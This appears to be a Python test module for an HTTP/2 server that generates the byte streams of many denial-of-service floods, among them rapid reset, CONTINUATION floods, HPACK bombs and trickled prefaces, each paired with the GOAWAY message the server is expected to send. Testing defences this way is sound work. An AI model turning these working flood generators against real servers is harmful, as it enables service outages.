"""What an attacker sends over HTTP/2: for each kind of flood the bytes of one connection, piece by piece until it is ended."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import repeat

from balance.http2 import errors, frames
from balance.http2.frames import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, frame
from balance.http2.hpack.field_encoder import encode

AT_ONCE = 50  # requests, or frames, in a piece
START = frames.PREFACE + frames.settings([])
NO_WINDOW = frames.PREFACE + frames.settings([(frames.INITIAL_WINDOW_SIZE, 0)])
LARGE_TABLE_ENTRY = b"\x40\x01x\x7f\x81\x1e" + b"v" * 4000
SAME_ENTRY = b"\xbe"


def head(method: bytes = b"GET", path: bytes = b"/") -> bytes:
    return encode([(b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", b"bad.example")])


GET, POST, LARGE = head(), head(b"POST", b"/echo"), head(path=b"/bytes?n=200000")


def get(stream_id: int, block: bytes = GET) -> bytes:
    return frame(HEADERS, END_STREAM | END_HEADERS, stream_id, block)


def on_streams(data_of: Callable[[int], bytes]) -> Iterator[bytes]:
    """Something for each stream, one after the other."""
    yield START
    for first in range(1, 1 << 30, 2 * AT_ONCE):
        yield b"".join(map(data_of, range(first, first + 2 * AT_ONCE, 2)))


def again_and_again(data: bytes, before: bytes = b"") -> Iterator[bytes]:
    yield START + before
    yield from repeat(data * AT_ONCE)


def continuations(payload: bytes) -> Iterator[bytes]:
    yield START + frame(HEADERS, END_STREAM, 1, GET)
    yield from repeat(frame(CONTINUATION, 0, 1, payload))


def bomb(block: bytes) -> Iterator[bytes]:
    """Heads that are far larger than what was sent for them."""
    yield START
    for number in range(1, 1 << 30, 2):
        parts = [block[start : start + frames.FRAME_BYTES] for start in range(0, len(block), frames.FRAME_BYTES)]
        kinds = [(HEADERS, END_STREAM), *repeat((CONTINUATION, 0), len(parts) - 1)]
        kinds[-1] = (kinds[-1][0], kinds[-1][1] | END_HEADERS)
        yield b"".join(frame(kind, flags, number, part) for (kind, flags), part in zip(kinds, parts, strict=True))


def closed_windows() -> Iterator[bytes]:
    """A hundred replies of 200 KB, of which none can be sent."""
    yield NO_WINDOW
    yield b"".join(get(number, LARGE) for number in range(1, 201, 2))
    yield from repeat(b"")


def trickled_preface() -> Iterator[bytes]:
    for byte in frames.PREFACE:
        yield bytes([byte])
    yield from repeat(b"")


def tiny_data() -> Iterator[bytes]:
    """Bodies by the byte, which is allowed: nothing but the number of frames is against it."""
    yield START + b"".join(frame(HEADERS, END_HEADERS, number, POST) for number in range(1, 21, 2))
    yield from repeat(b"".join(frame(DATA, 0, number, b"x") for number in range(1, 21, 2)) * AT_ONCE)


@dataclass(frozen=True)
class Http2Flood:
    """So many connections at once. One that is ended is replaced after `pause_s`; where `is_slow`, each rests as long between
    two pieces.
    """

    pieces: Callable[[], Iterator[bytes]]
    ends: str = ""  # what the detail of the GOAWAY has that ends a connection of it; empty where it isn't ended by one
    connections: int = 10
    pause_s: float = 0.5
    is_slow: bool = False
    reads: bool = True


FLOODS = {
    "HTTP/2: rapid reset": Http2Flood(
        lambda: on_streams(lambda number: get(number) + frames.rst_stream(number, errors.CANCEL)), "resets"
    ),
    "HTTP/2: made to reset by WINDOW_UPDATE": Http2Flood(
        lambda: on_streams(lambda number: get(number) + frames.window_update(number, 0)), "malformed"
    ),
    "HTTP/2: made to reset by malformed heads": Http2Flood(
        lambda: on_streams(lambda number: get(number, encode([(b":method", b"GET")]))), "malformed"
    ),
    "HTTP/2: CONTINUATION": Http2Flood(lambda: continuations(b"\0\x01x\x01y" * 100), "too many frames"),
    "HTTP/2: empty CONTINUATION": Http2Flood(lambda: continuations(b""), "too many frames"),
    "HTTP/2: HPACK bomb": Http2Flood(lambda: bomb(GET + LARGE_TABLE_ENTRY + SAME_ENTRY * 28_000), "far larger"),
    "HTTP/2: cookie bomb": Http2Flood(lambda: bomb(GET + encode([(b"cookie", b"")]) * 4000), "far larger"),
    "HTTP/2: heads of 150 fields": Http2Flood(
        lambda: on_streams(lambda number: get(number, GET + encode([(b"x", b"")] * 150))), "too large"
    ),
    "HTTP/2: PING": Http2Flood(lambda: again_and_again(frame(PING, 0, 0, bytes(8))), "PING"),
    "HTTP/2: PING, answers not read": Http2Flood(lambda: again_and_again(frame(PING, 0, 0, bytes(8))), "PING", reads=False),
    "HTTP/2: SETTINGS": Http2Flood(lambda: again_and_again(frames.settings([])), "SETTINGS"),
    "HTTP/2: PRIORITY": Http2Flood(lambda: again_and_again(frame(frames.PRIORITY, 0, 1, bytes(5))), "PRIORITY"),
    "HTTP/2: unknown frames": Http2Flood(lambda: again_and_again(frame(0x55, 0, 0, b"")), "unknown frames"),
    "HTTP/2: empty DATA": Http2Flood(
        lambda: again_and_again(frame(DATA, 0, 1, b""), frame(HEADERS, END_HEADERS, 1, POST)), "empty DATA"
    ),
    "HTTP/2: DATA by the byte, two connections": Http2Flood(tiny_data, connections=2),
    "HTTP/2: windows of 0, two connections of 100 replies": Http2Flood(closed_windows, connections=2),
    "HTTP/2: trickled prefaces, 500 connections": Http2Flood(trickled_preface, connections=500, is_slow=True),
}
